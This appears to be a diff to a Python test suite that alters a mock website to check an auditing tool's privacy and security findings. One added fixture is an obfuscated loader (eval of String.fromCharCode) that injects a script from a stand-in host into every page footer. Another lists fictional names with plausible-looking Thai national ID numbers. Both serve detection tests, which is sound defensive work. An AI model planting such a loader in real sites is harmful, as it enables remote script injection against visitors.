@@ -20,11 +20,13 @@ from tests.sites.mutation import (
     answering_all,
     as_entities,
     closed_by_robots,
+    on_every_foot,
     on_every_page,
     same,
     typed,
 )
 from tests.sites.papers import Paper
+from tests.sites.truth import FindingMark
 from tests.sites.website import Answer, Website
 
 MANUAL = ("1.6.manual", "1.6.manual-steps", "1.6.manual-durations", "1.6.manual-download")
@@ -111,6 +113,20 @@ def _own_text(site: Website) -> Website:
     assert isinstance(announcement, Paper)
     return site.with_answer(address("m1-13"), typed(replace(announcement, scanned=False).lines))
 
+
+def _list_of_examinees(site: Website) -> Website:
+    """Made-up numbers with right check digits, as a list of names shows them."""
+    names = [
+        ("นายวรพล คำมูล", "1101500123452"),
+        ("นางสาวอรทัย มาลา", "3100600123450"),
+        ("นางทองใบ ดีงาม", "5501200345670"),
+    ]
+    rows = "".join(f"<tr><td>{n}</td><td>{name}</td><td>{cid}</td></tr>" for n, (name, cid) in enumerate(names, 1))
+    table = f"<table><tr><th>ที่</th><th>ชื่อ - สกุล</th><th>เลขประจำตัวประชาชน</th></tr>{rows}</table>"
+    return site.edited("/news/131", "</main>", f"{table}</main>")
+
+
+_LOADER = "".join(f"{ord(letter)}," for letter in 'var s=document.createElement("script");s.src="//x9.invalid/a.js"')
 
 MUTATIONS = (
     Mutation("the executives' page is gone", lambda site: site.without("/page/executives"), {"1.1.executives": FAIL}),
@@ -217,4 +233,15 @@ MUTATIONS = (
     ),
     Mutation("the header names no charset", lambda site: site.recoded("utf-8", "text/html")),
     Mutation("Thai letters are character references", lambda site: on_every_page(site, as_entities)),
+    Mutation(
+        "a list of examinees shows their ID numbers",
+        _list_of_examinees,
+        findings=(FindingMark(rule="privacy.national-id", url_suffix="/news/131"),),
+    ),
+    Mutation(
+        "an intruder's script is in the template",
+        lambda site: on_every_foot(site, f"<script>eval(String.fromCharCode({_LOADER}32))</script>"),
+        {"3.4.computer-crime": FAIL},
+        (FindingMark(rule="security.suspicious-script", url_suffix=""),),
+    ),
 )
